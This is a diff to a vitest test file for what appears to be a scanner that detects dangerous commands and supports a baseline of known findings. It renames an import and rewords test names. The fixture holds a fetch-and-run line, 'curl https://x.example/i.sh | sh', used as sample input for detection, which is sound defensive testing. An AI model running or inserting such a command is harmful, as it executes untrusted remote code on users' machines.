@@ -1,7 +1,7 @@
 import { readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { folderWith } from "../folder.js";
+import { folderWith } from "../folder-with.js";
 import { runHere } from "../fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
@@ -34,7 +34,7 @@ describe("a baseline", () => {
     expect(status).toBe(1);
   });
 
-  it("recognizes a finding whose line moved or is wrapped differently, from any folder", async () => {
+  it("recognizes a finding whose line was moved or wrapped differently, in a scan from any folder", async () => {
     const cwd = folderWith({ "a/x.md": `${BAD}\n` });
     await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
     writeFileSync(
@@ -47,7 +47,7 @@ describe("a baseline", () => {
     ).toMatchObject({ status: 0 });
   });
 
-  it("does not apply to another address, rule or file", async () => {
+  it("does not suppress a finding with another URL, rule or file", async () => {
     const cwd = folderWith({ "x.md": `${BAD}\n` });
     await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
     writeFileSync(join(cwd, "x.md"), OTHER);
@@ -70,7 +70,7 @@ describe("a baseline", () => {
     ]);
   });
 
-  it("contains no command, so that it has no findings itself", async () => {
+  it("contains no command, so that a scan of it finds nothing", async () => {
     const cwd = folderWith({ "x.md": BAD });
     await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
     expect(readFileSync(join(cwd, "base.json"), "utf8")).not.toContain("curl");
